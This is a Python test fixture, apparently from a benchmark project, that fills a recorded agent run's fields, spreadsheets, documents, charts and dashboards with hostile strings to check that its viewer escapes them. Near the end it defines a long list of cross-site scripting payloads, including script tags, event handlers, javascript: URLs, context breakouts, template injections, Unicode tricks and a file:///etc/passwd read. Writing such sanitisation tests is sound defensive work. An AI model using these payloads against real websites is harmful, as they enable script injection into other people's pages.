"""A run made hostile: what an agent or a judge wrote, replaced by payloads that want to run."""

import copy
import hashlib
import json
from itertools import cycle
from pathlib import Path
from typing import Any

from tests.staging.recordings import put_turns, turn_values

from modylbench.foundation.record import canonical_json
from modylbench.products.chart import Axis, Chart, Point, Series
from modylbench.products.code import Code, CodeFile
from modylbench.products.dashboard import Dashboard, Widget
from modylbench.products.document import Citation, Document, Section
from modylbench.products.spreadsheet import Cell, Column, Row, Sheet, Spreadsheet
from modylbench.surfaces.showing import messages_for
from modylbench.surfaces.state.surfaces import Surfaces

SHOWN = {
    "agent name": 1, "meeting title": 1, "speaker": 3, "asked": 3, "judge name": 38, "heard": 60,
    "state": 3, "said": 60, "chat": 60, "chat sender": 60, "reaction": 60, "annotation": 60,
    "file name": 60, "mime type": 60, "fault code": 60, "fault detail": 60, "surface fault": 60,
    "surface id": 60, "attempt": 30, "rating": 60, "vote": 60, "audio observation": 20,
    "visual observation": 20, "coherence": 20, "verdict note": 50, "found": 20, "expected": 10,
    "limit": 60, "note": 5, "cell": 60, "row label": 60, "column label": 40, "sheet name": 4,
    "sheet note": 60, "title": 8, "section": 60, "heading": 60, "citation": 60, "x": 60,
    "series": 20, "axis": 4, "chart note": 60, "widget": 60, "widget value": 60, "widget text": 60,
    "code": 5, "file path": 40, "figure": 60, "quantity": 14,
}  # fmt: skip
"""Of every field, how many payloads at least must be seen as text: the others are cut or cleaned
before the page, or there is no room for them."""


class Hand:
    """Gives out payloads for a field, one after the other and round again."""

    def __init__(self) -> None:
        self._left: dict[str, cycle[str]] = {}

    def __call__(self, field: str) -> str:
        """The next one."""
        return next(self._left.setdefault(field, cycle(marked_payloads(field))))


def poison(run: Path) -> None:
    """Make a run of one trial hostile, in place."""
    hand = Hand()
    agent = {"name": hand("agent name"), "settings": {"mood": hand("agent name")}}
    (trial,) = [path.parent for path in run.glob("*/*/recording.json")]
    recording = _read_json(trial / "recording.json") | {"agent": agent}
    turns = turn_values(trial)
    _poison_recording(recording, turns, trial, hand)
    digest = _write_json(trial / "recording.json", put_turns(recording, turns))
    evaluation = _read_json(trial / "evaluation.json") | {"agent": agent, "recording": digest}
    _poison_evaluation(evaluation, hand)
    judged = _write_json(trial / "evaluation.json", evaluation)
    bound = {"agent": agent, "recording": digest, "evaluation": judged}
    card = _read_json(trial / "scorecard.json") | bound
    _poison_scorecard(card, hand)
    _write_json(trial / "scorecard.json", card)
    for name in ("run.json", "reliability.json"):
        if (run / name).is_file():
            _write_json(run / name, _read_json(run / name) | {"agent": agent})


def _poison_recording(
    recording: dict[str, Any], turns: list[dict[str, Any]], trial: Path, hand: Hand
) -> None:
    recording["title"] = hand("meeting title")
    for number, turn in enumerate(turns):
        turn["human"] |= {"speaker": hand("speaker"), "text": hand("asked")}
        said = turn["agent"]
        at = said["ended_s"]
        words = marked_payloads("said")[number :: len(turns)]
        said["said"] = [_spoken_words(text, at) | {"id": text} for text in words]
        said["heard"] = [
            _spoken_words(text, at) for text in marked_payloads("heard")[number :: len(turns)]
        ]
        said["chat"] = [
            {"kind": "chat", "sender": hand("chat sender"), "text": text, "at_s": at}
            for text in marked_payloads("chat")[number :: len(turns)]
        ]
        said["reactions"] = [
            {"kind": "reaction", "sender": hand("reaction sender"), "emoji": text, "at_s": at}
            for text in marked_payloads("reaction")[number :: len(turns)]
        ]
        said["annotations"] = [
            {
                "kind": "annotation", "sender": hand("annotation sender"), "text": text,
                "mark": {"surface_id": "model", "body": text}, "at_s": at,
            }
            for text in marked_payloads("annotation")[number :: len(turns)]
        ]  # fmt: skip
        said["states"] = [{"state": hand("state"), "at_s": at}]
        said["files"] = [_file(trial, turn, hand, at) for _ in range(0, len(PAYLOADS), len(turns))]
        said["surface_faults"] = [_surface_fault(hand) for _ in range(0, len(PAYLOADS), len(turns))]
        shown = f"surfaces/turn-{turn['turn_index']:02d}.json"
        _write_json(trial / shown, hostile_surfaces(number))
        said["surfaces"] = _kept_file(trial, shown)
    recording["faults"] = [
        {
            "culprit": "agent", "code": code, "detail": hand("fault detail"),
            "turn_index": turns[number % len(turns)]["turn_index"] if number % 3 else None,
            "at_s": None, "spoils": False,
        }
        for number, code in enumerate(marked_payloads("fault code"))
    ]  # fmt: skip


def _poison_evaluation(evaluation: dict[str, Any], hand: Hand) -> None:
    facts = evaluation["facts"]
    for turn in facts["turns"]:
        turn["attempts"] = [
            {
                "channel": "said", "kind": hand("attempt"), "excerpt": hand("attempt"),
                "turn_index": turn["turn_index"], "product_id": "", "pointer": "",
            }
            for _ in range(0, len(PAYLOADS), 2 * len(facts["turns"]))
        ]  # fmt: skip
        turn["speech"]["figures"] = [
            {
                "text": hand("figure"), "value": 1.0, "unit": "", "channel": "said",
                "agreement": "contradicts", "is_true": False, "quantity": hand("quantity"),
                "shown": 2.0, "product_id": hand("place"), "pointer": f"/{hand('place')}",
            }
            for _ in range(0, len(PAYLOADS), len(facts["turns"]))
        ]  # fmt: skip
    for product in facts["products"]:
        for finding in product["findings"]:
            finding |= {
                "found": hand("found"), "expected": hand("expected"), "reason": hand("found"),
                "verdict": "failed",
            }  # fmt: skip
            finding["where"] = [
                *finding["where"],
                {"product_id": hand("place"), "pointer": f"/{hand('place')}", "span": None,
                 "value": None},
            ]  # fmt: skip
    given = evaluation["verdicts"]
    evaluation["verdicts"] = [
        copy.deepcopy(verdict) for verdict in given for _ in range(2)
    ]  # more names
    for verdict in evaluation["verdicts"]:
        for rating in verdict["ratings"]:
            rating |= {"reason": hand("rating"), "evidence": [hand("evidence")]}
        verdict |= {
            "judge": hand("judge name"),
            "audio_observations": hand("audio observation"),
            "visual_observations": hand("visual observation"),
            "coherence_notes": hand("coherence"),
            "notes": [hand("verdict note") for _ in range(3)],
            "votes": [
                {"question": hand("vote"), "answer": None, "reason": hand("vote")} for _ in range(3)
            ],
        }


def _poison_scorecard(card: dict[str, Any], hand: Hand) -> None:
    card["turns"][3]["score"] = 1.0  # the worst, so that it is another than the first
    card["notes"] = [hand("note") for _ in range(5)]
    for part in (card, *card["turns"], *card["products"]):
        part["limits"] = [
            {"rule": hand("rule"), "reason": hand("limit"), "before": 5.0, "after": 4.0,
             "evidence": []}
            for _ in range(8)
        ]  # fmt: skip


def _spoken_words(text: str, at: float) -> dict[str, Any]:
    return {"speaker": "agent", "text": text, "started_s": at, "ended_s": at}


def _file(trial: Path, turn: dict[str, Any], hand: Hand, at: float) -> dict[str, Any]:
    path = f"files/turn-{turn['turn_index']:02d}/sent.html"
    (trial / path).parent.mkdir(parents=True, exist_ok=True)
    (trial / path).write_text(PAYLOADS[0], encoding="utf-8")
    return {
        "sender": hand("file sender"), "name": hand("file name"), "mime_type": hand("mime type"),
        "file": _kept_file(trial, path), "at_s": at,
    }  # fmt: skip


def _surface_fault(hand: Hand) -> dict[str, Any]:
    return {
        "code": hand("surface fault"), "severity": "error", "reason": hand("surface fault"),
        "surface_id": hand("surface id"), "component_id": hand("component id"),
    }  # fmt: skip


def _kept_file(trial: Path, path: str) -> dict[str, Any]:
    content = (trial / path).read_bytes()
    return {
        "path": path, "sha256": hashlib.sha256(content).hexdigest(), "size": len(content)
    }  # fmt: skip


def _read_json(path: Path) -> Any:
    return json.loads(path.read_text(encoding="utf-8"))


def _write_json(path: Path, value: Any) -> str:
    content = canonical_json(value).encode()
    path.write_bytes(content)
    return hashlib.sha256(content).hexdigest()


COLUMNS = 8


def hostile_surfaces(at: int) -> list[dict[str, Any]]:
    """The surfaces that show them, as they stand in a recording; others at each turn."""
    surfaces = Surfaces()
    for product in (
        _sheets(at),
        _document(at),
        _chart(at, "hostile_chart"),
        _dashboard(at),
        _code(at),
    ):
        for message in messages_for(product, product.id):
            surfaces.take(message)
    return [snapshot.model_dump(mode="json") for snapshot in surfaces.snapshot()]


def _texts(field: str, at: int) -> list[str]:
    """All payloads, beginning with another at each turn, so that everything changes."""
    texts = marked_payloads(field)
    return texts[at:] + texts[:at]


def _sheets(at: int) -> Spreadsheet:
    return Spreadsheet(id="lbo_model", title=_texts("title", at)[0], sheets=(_sheet(at),))


def _sheet(at: int) -> Sheet:
    cells, formulas = _texts("cell", at), _texts("formula", at)
    columns = tuple(
        Column(id=f"c{number}", label=text)
        for number, text in enumerate(_texts("column label", COLUMNS * at)[:COLUMNS])
    )
    rows = tuple(
        Row(
            id=f"r{number}",
            label=text,
            cells={
                "c0": Cell(text=cells[number], formula=formulas[number][:1_000]),
                "c1": Cell(value=cells[number - 1], unit=cells[number - 2]),
            },
        )
        for number, text in enumerate(_texts("row label", at))
    )
    notes = tuple(_texts("sheet note", 20 * at)[:20])
    return Sheet(
        id="sheet", name=_texts("sheet name", at)[0], columns=columns, rows=rows, notes=notes
    )


def _document(at: int) -> Document:
    bodies = _texts("section", at)
    sections = tuple(
        Section(id=f"s{number}", heading=text, body=bodies[number])
        for number, text in enumerate(_texts("heading", at))
    )
    cited = tuple(
        Citation(id=f"c{number}", url=text, title=text, publisher=text, claim=text)
        for number, text in enumerate(_texts("citation", at))
    )
    return Document(
        id="hostile_document", title=_texts("title", at)[1], sections=sections, citations=cited
    )


def _chart(at: int, name: str) -> Chart:
    points = tuple(
        Point(id=f"p{number}", x=text, y=number) for number, text in enumerate(_texts("x", at))
    )
    series = tuple(
        Series(id=f"s{number}", label=text, points=points if not number else points[:1])
        for number, text in enumerate(_texts("series", 5 * at)[:5])
    )
    label = _texts("axis", at)[0]
    return Chart(
        id=name, title=_texts("title", at)[2], chart_type="bar", series=series,
        x_axis=Axis(label=label), y_axis=Axis(label=label, unit=label),
        notes=tuple(_texts("chart note", 20 * at)[:20]),
    )  # fmt: skip


def _dashboard(at: int) -> Dashboard:
    values, texts = _texts("widget value", at), _texts("widget text", at)
    widgets = tuple(
        Widget(id=f"w{number}", title=text, value=values[number], text=texts[number])
        for number, text in enumerate(_texts("widget", at))
    )
    more = (
        Widget(id="table", title="table", table=_sheet(at)),
        Widget(id="chart", title="chart", chart=_chart(at, "inside")),
    )
    return Dashboard(
        id="hostile_dashboard", title=_texts("title", at)[3], widgets=(*widgets, *more)
    )


def _code(at: int) -> Code:
    files = tuple(
        CodeFile(
            id=f"f{number}", path=text, language=text, content="\n".join(_texts("code", at)[:3])
        )
        for number, text in enumerate(_texts("file path", 8 * at)[:8])
    )
    return Code(id="hostile_code", title=_texts("title", at)[4], files=files)


RUN = "window.__pwned=1"
FAR = "//canary.invalid"

PAYLOADS = (
    # tags
    f"<script>{RUN}</script>",
    f"<ScRiPt\t>{RUN}</sCrIpT\n>",
    f'<script src="https:{FAR}/a.js"></script>',
    f'<script type="module">{RUN}</script>',
    f"<img src=x onerror={RUN}>",
    f'<img src="https:{FAR}/a.png">',
    f'<image href=x onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"></use></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>parent.{RUN}</script>"></iframe></foreignObject></svg>',  # noqa: E501
    f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    f"<body onload={RUN}>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="https:{FAR}/x.swf"></object>',
    f'<embed src="data:text/html,<script>parent.{RUN}</script>">',
    f'<link rel=stylesheet href="https:{FAR}/a.css">',
    f'<meta http-equiv=refresh content="0;url=https:{FAR}/">',
    f'<base href="https:{FAR}/">',
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f'<audio src="https:{FAR}/a.wav" autoplay onerror={RUN}></audio>',
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<form action="https:{FAR}/"><button>press</button></form>',
    f"<template><img src=x onerror={RUN}></template>",
    f"<dialog open onclose={RUN}>x</dialog>",
    f'<a href="javascript:{RUN}" autofocus>press</a>',
    f"<style>@import 'https:{FAR}/a.css';</style>",
    f'<div style="background:url(https:{FAR}/a.png)">x</div>',
    f'<xss style="width:expression({RUN})">x</xss>',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    # breaking out of where the text stands
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f"` onfocus={RUN} autofocus `",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</style><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}><!--",
    f"<!--><script>{RUN}</script>-->",
    f"]]><img src=x onerror={RUN}><![CDATA[",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"</td></tr></table><img src=x onerror={RUN}>",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f'\\";{RUN};//',
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    # addresses
    f"javascript:{RUN}",
    f"JaVaScRiPt&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"https:{FAR}/a.png",
    f"{FAR}/a.png",
    "file:///etc/passwd",
    # templates and markup languages
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1}",
    "<%= window.__pwned=1 %>{% raw %}",
    f"![x](https:{FAR}/a.png)",
    f"[press](javascript:{RUN})",
    f"<https:{FAR}/> [x]: javascript:{RUN}",
    # letters that are not what they seem
    f"\u202e>{RUN}=rorrEno x=crs gmi<\u202c",
    f"\u2066\u2067<img src=x onerror={RUN}>\u2069",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<\u200bscript>{RUN}</script>",
    f"<img/\u2028src=x\u2029onerror={RUN}>",
    f"%3Cimg%20src%3Dx%20onerror%3D{RUN}%3E",
    f"&lt;img src=x onerror={RUN}&gt;&#60;script&#62;",
    "__proto__",
    "constructor",
)


def marked_payloads(field: str) -> list[str]:
    """Every payload, and behind it where it was put: in front, it would spoil an address."""
    return [f"{payload} [{field} {number}]" for number, payload in enumerate(PAYLOADS)]
